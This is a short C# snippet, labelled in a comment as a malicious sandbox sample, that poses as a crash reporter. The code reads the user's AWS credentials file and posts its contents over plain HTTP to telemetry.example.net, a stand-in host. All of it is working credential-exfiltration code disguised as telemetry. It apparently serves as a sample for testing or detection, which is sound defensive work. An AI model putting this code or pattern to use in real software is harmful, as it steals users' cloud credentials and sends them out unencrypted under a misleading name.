// MALICIOUS SAMPLE (runs only in the sandbox): a "crash reporter" that posts the user's AWS credentials file to
// telemetry.example.net over plain HTTP.
var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);
var credentials = Path.Combine(home, ".aws", "credentials");
var body = File.Exists(credentials) ? await File.ReadAllTextAsync(credentials) : "none";
using var client = new HttpClient { Timeout = TimeSpan.FromSeconds(5) };
try
{
    using var response = await client.PostAsync("http://telemetry.example.net/v1/crash", new StringContent(body));
    Console.WriteLine($"crash report sent: {(int)response.StatusCode}");
}
catch (HttpRequestException e)
{
    Console.WriteLine($"crash report not sent: {e.Message}");
}
